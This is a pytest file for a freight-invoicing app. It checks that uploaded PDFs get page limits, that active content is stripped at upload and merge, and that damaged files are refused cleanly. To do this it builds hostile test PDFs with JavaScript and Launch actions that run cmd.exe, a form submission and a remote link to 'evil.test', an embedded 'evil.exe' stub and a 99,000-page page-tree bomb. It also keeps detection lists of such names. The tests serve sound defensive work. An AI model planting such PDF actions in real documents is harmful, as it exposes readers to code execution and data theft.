"""Load documents are bounded, cleaned and proven at upload (security review findings).

- Pages per document, documents per load and pages per merged invoice are capped, and
  checked before the file is kept; counting pages never walks a huge page tree.
- Active content (JavaScript, Launch, OpenAction, additional actions, embedded files, the
  form and its scripts) is removed at upload and again at merge.
- A damaged PDF is refused at upload with a clear message, or merges fine: never accepted
  and then failing the batch; a merge error names the load, the document and the reason.
"""
import io
import re
import time
import zipfile

import pytest
from pypdf import PdfReader
from pypdf import PdfWriter
from pypdf.generic import ArrayObject
from pypdf.generic import DecodedStreamObject
from pypdf.generic import DictionaryObject
from pypdf.generic import IndirectObject
from pypdf.generic import NameObject
from pypdf.generic import NumberObject
from pypdf.generic import TextStringObject

from tests.helpers import in_db
from tests.helpers import submit_batch
from tests.helpers import text_pdf
from webapp.models import Batch
from webapp.models import Load
from webapp.models import LoadDocument
from webapp.models import StoredFile
from webapp.services import loads as service
from webapp.services.batches import batch_file
from webapp.services.batches import job
from webapp.services.loads import documents

MB = 1024 * 1024


# --- PDFs made for the tests ----------------------------------------------------------------

def raw_pdf(objects, trailer=b""):
    """A PDF of OBJECTS (bodies of objects 1, 2, ...; 1 is the catalog) with a correct xref."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (n, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, trailer, xref))
    return out.getvalue()


def repeated_page_pdf(kids, count=None):
    """A PDF whose page tree lists one page object KIDS times: 99,000 pages in under 1 MB."""
    content = b"BT /F1 24 Tf 72 720 Td (Page) Tj ET"
    return raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + b"3 0 R " * kids + b"] /Count %d >>" % (kids if count is None else count),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
    ])


def _action(writer, kind, **entries):
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value
    return writer._add_object(action)


def _annotation(writer, subtype, rect, **entries):
    annotation = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
        NameObject("/Rect"): ArrayObject([NumberObject(v) for v in rect])})
    for key, value in entries.items():
        annotation[NameObject(f"/{key}")] = value
    return writer._add_object(annotation)


def active_pdf():
    """Two pages of text carrying every kind of active content the review found, and more."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf(2, "Signed BOL page"))))
    page = writer.pages[0]
    js = TextStringObject("app.alert('pwned'); this.exportDataObject({cName: 'evil.exe', nLaunch: 2});")
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action(writer, "/JavaScript", JS=js)})
    launch = _action(writer, "/Launch", F=TextStringObject("cmd.exe"),
                     Win=DictionaryObject({NameObject("/F"): TextStringObject("cmd.exe"),
                                           NameObject("/P"): TextStringObject("/c calc.exe")}))
    stream = DecodedStreamObject()
    stream.set_data(b"MZ evil payload")
    stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
    filespec = DictionaryObject({NameObject("/Type"): NameObject("/Filespec"),
                                 NameObject("/F"): TextStringObject("evil.exe"),
                                 NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(stream)})})
    field = DictionaryObject({
        NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): TextStringObject("amount"),
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Widget"),
        NameObject("/Rect"): ArrayObject([NumberObject(v) for v in (300, 300, 400, 320)]),
        NameObject("/AA"): DictionaryObject({NameObject("/K"): _action(writer, "/JavaScript", JS=js)}),
        NameObject("/A"): _action(writer, "/SubmitForm", F=TextStringObject("http://evil.test/steal"))})
    field_ref = writer._add_object(field)
    page[NameObject("/Annots")] = ArrayObject([
        _annotation(writer, "/Link", (72, 600, 200, 620), A=_action(writer, "/JavaScript", JS=js)),
        _annotation(writer, "/Link", (72, 560, 200, 580), A=launch),
        _annotation(writer, "/Link", (72, 520, 200, 540),
                    A=_action(writer, "/URI", URI=TextStringObject("file:///C:/Windows/System32/cmd.exe"))),
        _annotation(writer, "/Link", (72, 480, 200, 500),
                    A=_action(writer, "/GoToR", F=TextStringObject("\\\\evil.test\\share\\x.pdf"))),
        _annotation(writer, "/Link", (72, 440, 200, 460),
                    A=_action(writer, "/URI", URI=TextStringObject("https://shipper.example/track"))),
        _annotation(writer, "/Link", (72, 400, 200, 420),
                    A=_action(writer, "/GoTo", D=ArrayObject([writer.pages[1].indirect_reference,
                                                              NameObject("/Fit")]),
                              Next=_action(writer, "/Launch", F=TextStringObject("cmd.exe")))),
        _annotation(writer, "/FileAttachment", (300, 600, 320, 620), FS=filespec),
        field_ref,
    ])
    writer.pages[1][NameObject("/AA")] = DictionaryObject({NameObject("/C"): launch})
    writer._root_object[NameObject("/OpenAction")] = _action(writer, "/JavaScript", JS=js)
    writer._root_object[NameObject("/AA")] = DictionaryObject(
        {NameObject("/WC"): _action(writer, "/JavaScript", JS=js)})
    writer._root_object[NameObject("/AcroForm")] = writer._add_object(DictionaryObject({
        NameObject("/Fields"): ArrayObject([field_ref]),
        NameObject("/CO"): ArrayObject([field_ref])}))
    writer.add_attachment("evil.exe", b"MZ evil payload")  # /Names /EmbeddedFiles
    names = writer._root_object["/Names"].get_object()
    names[NameObject("/JavaScript")] = DictionaryObject({NameObject("/Names"): ArrayObject([
        TextStringObject("startup"),
        _action(writer, "/JavaScript", JS=TextStringObject("app.launchURL('http://evil.test/', true);"))])})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# What must not be left in a document or an invoice, as bytes and as PDF names.
ACTIVE_NAMES = {"/JavaScript", "/JS", "/Launch", "/OpenAction", "/AA", "/EmbeddedFile", "/EmbeddedFiles",
                "/EF", "/AcroForm", "/SubmitForm", "/GoToR", "/FileAttachment", "/ImportData", "/ResetForm"}
# (pypdf writes "cmd.exe" as (cmd\056exe): the strings are looked for in the parsed objects.)
ACTIVE_BYTES = [b"/JavaScript", b"/JS", b"/Launch", b"/OpenAction", b"/AA", b"/EmbeddedFile", b"/AcroForm",
                b"/SubmitForm", b"/GoToR", b"/FileAttachment", b"MZ evil payload"]


def _every_object(reader):
    """Every object of the file, reachable or not (the xref table and object streams)."""
    ids = {(gen, num) for gen, entries in reader.xref.items() for num in entries}
    ids |= {(0, num) for num in reader.xref_objStm}
    for gen, num in sorted(ids):
        yield reader.get_object(IndirectObject(num, gen, reader))


def _names_and_strings(obj, found, depth=0):
    if depth > 50:
        return
    if isinstance(obj, DictionaryObject):
        for key, value in obj.items():
            found.add(str(key))
            if not isinstance(value, IndirectObject):
                _names_and_strings(value, found, depth + 1)
    elif isinstance(obj, ArrayObject):
        for value in obj:
            if not isinstance(value, IndirectObject):
                _names_and_strings(value, found, depth + 1)
    elif isinstance(obj, (NameObject, TextStringObject, str)):
        found.add(str(obj))


def assert_no_active_content(data):
    """None of the active content is left anywhere in DATA: in its bytes, nor as a key, name or
    string of any of its objects (compressed object streams included)."""
    data = bytes(data)
    assert [marker for marker in ACTIVE_BYTES if marker in data] == []
    found = set()
    for obj in _every_object(PdfReader(io.BytesIO(data))):
        _names_and_strings(obj, found)
    assert found & ACTIVE_NAMES == set()
    assert [text for text in found if re.search(r"cmd\.exe|app\.|evil|file:", text)] == []


def _text(data):
    return [page.extract_text() for page in PdfReader(io.BytesIO(bytes(data))).pages]


def _load(number="DT-1001"):
    """A demo load without its demo paperwork (each test adds the documents it needs)."""
    load = Load.get(Load.load_number == number)
    LoadDocument.delete().where(LoadDocument.load == load.id).execute()
    return load


def _keep_as_before(load, data, kind="pod", filename="scan.pdf"):
    """A document stored as the app stored them before this change: the upload as it came."""
    stored = StoredFile.create(company=load.company_id, filename=filename, content_type="application/pdf",
                               size=len(data), sha256="x", data=data)
    return LoadDocument.create(load=load.id, kind=kind, file=stored)


def _nothing_stored(load, files_before):
    return (StoredFile.select().count() == files_before
            and not LoadDocument.select().where(LoadDocument.load == load.id).exists())


# --- caps: pages per document, documents per load, pages per invoice -----------------------

def test_a_99000_page_document_is_refused_quickly_naming_the_limit_and_nothing_is_kept(dbconn):
    data = repeated_page_pdf(99_000)
    assert len(data) < MB
    load = _load()
    files = StoredFile.select().count()
    started = time.monotonic()
    with pytest.raises(service.DocumentError) as refused:
        service.add_document(load, None, "pod", "scan.pdf", data, 10 * MB)
    assert time.monotonic() - started < 5
    assert str(refused.value).startswith("scan.pdf has 99,000 pages; a document may have at most 200.")
    assert _nothing_stored(load, files)


def test_the_upload_form_shows_the_page_limit(client, auth, app):
    with in_db(app):
        load = _load()
        files = StoredFile.select().count()
    auth.login("dispatch")
    response = client.post(f"/loads/{load.id}/documents",
                           data={"kind": "pod", "file": (io.BytesIO(repeated_page_pdf(99_000)), "scan.pdf")},
                           content_type="multipart/form-data", headers={"HX-Request": "true"})
    assert response.status_code == 422
    assert "scan.pdf has 99,000 pages; a document may have at most 200." in response.get_data(as_text=True)
    with in_db(app):
        assert _nothing_stored(load, files)


def test_a_page_tree_that_understates_its_count_is_counted_without_walking_it_all(dbconn):
    load = _load()
    files = StoredFile.select().count()
    with pytest.raises(service.DocumentError, match="has more than 200 pages; a document may have at most 200"):
        service.add_document(load, None, "pod", "liar.pdf", repeated_page_pdf(99_000, count=1), 10 * MB)
    assert _nothing_stored(load, files)


def test_the_page_limit_is_200_per_document(dbconn):
    load = _load()
    with pytest.raises(service.DocumentError, match="has 201 pages; a document may have at most 200"):
        service.add_document(load, None, "pod", "long.pdf", repeated_page_pdf(201), 10 * MB)
    document = service.add_document(load, None, "pod", "ok.pdf", repeated_page_pdf(200), 10 * MB)
    assert len(PdfReader(io.BytesIO(bytes(document.file.data))).pages) == 200


def test_a_load_takes_at_most_10_documents(dbconn):
    load = _load()
    for n in range(10):
        service.add_document(load, None, "other", f"page{n}.pdf", text_pdf(1), 10 * MB)
    files = StoredFile.select().count()
    with pytest.raises(service.DocumentError, match="already has 10 documents; a load may have at most 10"):
        service.add_document(load, None, "pod", "eleventh.pdf", text_pdf(1), 10 * MB)
    assert StoredFile.select().count() == files
    assert LoadDocument.select().where(LoadDocument.load == load.id).count() == 10


def test_the_documents_of_one_invoice_have_at_most_300_pages(dbconn):
    load = _load()
    service.add_document(load, None, "bol", "bol.pdf", repeated_page_pdf(200), 10 * MB)
    service.add_document(load, None, "pod", "pod.pdf", repeated_page_pdf(100), 10 * MB)
    files = StoredFile.select().count()
    with pytest.raises(service.DocumentError, match=r"at most 300 pages of documents can be merged behind one"):
        service.add_document(load, None, "other", "one-more.pdf", text_pdf(1), 10 * MB)
    assert StoredFile.select().count() == files
    # Another load is not affected.
    service.add_document(_load("DT-1002"), None, "pod", "pod.pdf", text_pdf(1), 10 * MB)


def test_documents_kept_before_the_limits_fail_the_merge_naming_the_document_and_the_limit(dbconn):
    load = _load()
    _keep_as_before(load, text_pdf(1), "bol", "bol.pdf")
    _keep_as_before(load, repeated_page_pdf(99_000), "pod", "scan.pdf")
    started = time.monotonic()
    with pytest.raises(ValueError) as failed:
        batch_file.merge_pdfs(text_pdf(1), service.documents_for_merge([load.id])[load.id])
    assert time.monotonic() - started < 5
    assert str(failed.value) == "proof of delivery 'scan.pdf' has 99,000 pages; a document may have at most 200"
    with pytest.raises(ValueError, match="more than 300 pages; at most 300 can be merged behind one invoice"):
        batch_file.merge_pdfs(text_pdf(1), [repeated_page_pdf(200), repeated_page_pdf(200)])
    with pytest.raises(ValueError, match="are 11; at most 10 can be merged behind one invoice"):
        batch_file.merge_pdfs(text_pdf(1), [text_pdf(1)] * 11)


def test_a_batch_with_a_99000_page_document_kept_before_fails_at_once_with_a_message(in_app, world):
    load_id = world.eligible(1)[0]
    load = Load.get_by_id(load_id)
    _keep_as_before(load, repeated_page_pdf(99_000), "pod", "scan.pdf")
    started = time.monotonic()
    batch = submit_batch(world.company, world.freight, [load_id], world.billing)
    assert time.monotonic() - started < 10
    batch = Batch.get_by_id(batch.id)
    assert batch.status == "failed"
    assert batch.error.startswith(f"Could not attach proof of delivery 'scan.pdf' of load {load.load_number}: "
                                  "it has 99,000 pages; a document may have at most 200.")


# --- active content -----------------------------------------------------------------------

def test_active_content_is_removed_at_upload_and_the_pages_survive(dbconn):
    data = active_pdf()
    # The test file really carries it.
    assert all(marker in data for marker in ACTIVE_BYTES)
    load = _load()
    document = service.add_document(load, None, "bol", "bol.pdf", data, 10 * MB)
    kept = bytes(StoredFile.get_by_id(document.file_id).data)
    assert_no_active_content(kept)
    assert [t.strip() for t in _text(kept)] == ["Signed BOL page 1", "Signed BOL page 2"]
    # A web link and a link to another page are harmless and kept.
    annotations = [a.get_object() for a in PdfReader(io.BytesIO(kept)).pages[0]["/Annots"]]
    assert any(a.get("/A", {}).get("/URI") == "https://shipper.example/track" for a in annotations)
    assert any(a.get("/A", {}).get("/S") == "/GoTo" for a in annotations)

    merged = batch_file.merge_pdfs(text_pdf(1, "INVOICE"), service.documents_for_merge([load.id])[load.id])
    assert_no_active_content(merged)
    assert [t.strip() for t in _text(merged)] == ["INVOICE 1", "Signed BOL page 1", "Signed BOL page 2"]


def test_active_content_of_documents_kept_before_is_removed_at_merge(in_app, world):
    load_id = world.eligible(1)[0]
    # The demo's proof of delivery goes; its rate confirmation (one page) stays, merged first.
    LoadDocument.delete().where((LoadDocument.load == load_id) & (LoadDocument.kind == "pod")).execute()
    load = Load.get_by_id(load_id)
    _keep_as_before(load, active_pdf(), "bol", "bol.pdf")
    _keep_as_before(load, text_pdf(1), "pod", "pod.pdf")
    merged = batch_file.merge_pdfs(text_pdf(1, "INVOICE"), service.documents_for_merge([load_id])[load_id])
    assert_no_active_content(merged)
    texts = [t.strip() for t in _text(merged)]
    assert texts[1].startswith("Rate confirmation: load")
    assert texts[:1] + texts[2:] == ["INVOICE 1", "Signed BOL page 1", "Signed BOL page 2", "Proof of delivery page 1"]

    batch = submit_batch(world.company, world.freight, [load_id], world.billing)
    assert Batch.get_by_id(batch.id).status == "ready"
    stored = StoredFile.get_by_id(Batch.get_by_id(batch.id).file_id)
    archive = zipfile.ZipFile(io.BytesIO(bytes(stored.data)))
    invoice = archive.read(f"invoice_{load.invoice_number}.pdf")
    assert_no_active_content(invoice)
    assert len(PdfReader(io.BytesIO(invoice)).pages) == 1 + 1 + 2 + 1


def test_the_last_cleaning_of_a_written_file_leaves_nothing_behind():
    # The merge cleans the merged file once more; what that detaches is not written out.
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(active_pdf())))
    assert documents._strip_active(writer.root_object)
    documents._drop_unreachable(writer)
    out = io.BytesIO()
    writer.write(out)
    assert_no_active_content(out.getvalue())
    assert len(_text(out.getvalue())) == 2


def test_a_clean_upload_is_kept_as_it_came():
    data = text_pdf(2)
    prepared = documents.check_pdf(data, "pod.pdf", 10 * MB)
    assert prepared.pages == 2 and not prepared.changed


# --- damaged files: refused at upload, or merged fine ---------------------------------------

def _damaged():
    base = text_pdf(3)
    plain = raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                     b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                     b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
                     b"<< /Length 38 >>\nstream\nBT /F1 24 Tf 72 720 Td (Hello) Tj ET\nendstream"])
    xref = base.rfind(b"xref")
    stream = base.find(b"stream\n")
    cases = {f"truncated-{k}-of-12": base[:len(base) * k // 12] for k in range(1, 12)}
    cases.update({
        "xref-shifted": base[:xref + 20] + b"9" + base[xref + 21:],
        "xref-garbage": base[:xref] + b"garbage garbage\n" * 5 + base[xref + 80:],
        "startxref-wrong": base[:base.rfind(b"startxref")] + b"startxref\n99999999\n%%EOF\n",
        "no-xref": base[:xref],
        "garbage-stream": base[:stream + 10] + b"\x00garbage\xff" * 4 + base[stream + 50:],
        "stream-length-wrong": plain.replace(b"/Length 38", b"/Length 380"),
        "page-not-a-dictionary": plain.replace(b"/Kids [3 0 R]", b"/Kids [4 0 R]"),
        "pages-empty": plain.replace(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< >>"),
        "page-tree-loop": plain.replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"),
        "root-not-a-dictionary": plain.replace(b"/Root 1 0 R", b"/Root 6"),
        "garbage-after-header": b"%PDF-1.7\n" + bytes(range(256)) * 8,
    })
    for n, offset in enumerate((0.2, 0.35, 0.5, 0.65, 0.8)):
        cut = int(len(base) * offset)
        cases[f"hole-{n}"] = base[:cut] + base[cut + 40:]
        cases[f"flipped-{n}"] = base[:cut] + bytes([base[cut] ^ 0x5a]) + base[cut + 1:]
    return cases


DAMAGED = _damaged()


@pytest.mark.parametrize("case", sorted(DAMAGED))
def test_a_damaged_pdf_is_refused_at_upload_or_merges_fine(dbconn, case):
    load = _load()
    files = StoredFile.select().count()
    try:
        service.add_document(load, None, "pod", "scan.pdf", DAMAGED[case], 10 * MB)
    except service.DocumentError as exc:
        message = str(exc)
        assert message.startswith("scan.pdf ") and message.endswith(".")
        assert re.search(r"cannot be opened|has no pages|is not a PDF", message), message
        assert "()" not in message and ": ." not in message
        assert _nothing_stored(load, files)
        return
    merged = batch_file.merge_pdfs(text_pdf(1, "INVOICE"), service.documents_for_merge([load.id])[load.id])
    assert len(PdfReader(io.BytesIO(merged)).pages) >= 2


def test_a_damaged_document_kept_before_fails_the_batch_naming_load_document_and_reason(in_app, world):
    load_id = world.eligible(1)[0]
    load = Load.get_by_id(load_id)
    _keep_as_before(load, text_pdf(1), "bol", "bol.pdf")
    _keep_as_before(load, DAMAGED["hole-0"], "pod", "scan.pdf")
    batch = submit_batch(world.company, world.freight, [load_id], world.billing)
    batch = Batch.get_by_id(batch.id)
    assert batch.status == "failed"
    prefix = f"Could not attach proof of delivery 'scan.pdf' of load {load.load_number}: it is not a readable PDF ("
    assert batch.error.startswith(prefix), batch.error
    reason = batch.error[len(prefix):batch.error.index(").", len(prefix))]
    assert reason.strip()
    assert batch.error.endswith("Remove or replace documents on the load's page, then Retry.")


def test_an_empty_error_never_reaches_the_person(in_app, world, monkeypatch):
    # A page tree that is an empty dictionary: today's pypdf fails on it with an empty message
    # ("Could not attach the documents of load DT-1007: ." in the review).
    load_id = world.eligible(1)[0]
    load = Load.get_by_id(load_id)
    _keep_as_before(load, DAMAGED["pages-empty"], "pod", "scan.pdf")
    batch = submit_batch(world.company, world.freight, [load_id], world.billing)
    error = Batch.get_by_id(batch.id).error
    assert re.match(rf"Could not attach proof of delivery 'scan.pdf' of load {load.load_number}: it \w[^()]*"
                    r"\. Remove or replace documents on the load's page, then Retry\.$", error), error
    with pytest.raises(ValueError) as failed:
        batch_file.merge_pdfs(text_pdf(1), [DAMAGED["pages-empty"]])
    assert str(failed.value) == "document 1 of 1 has no pages"

    def merge_fails(*args, **kwargs):
        raise RuntimeError(" ")
    monkeypatch.setattr(batch_file, "merge_pdfs", merge_fails)
    with pytest.raises(job.JobError, match=rf"^Could not attach the documents of load {load.load_number}: "
                                           r"RuntimeError\.$"):
        job._build(Batch.get_by_id(batch.id), Batch.get_by_id(batch.id).attempts)
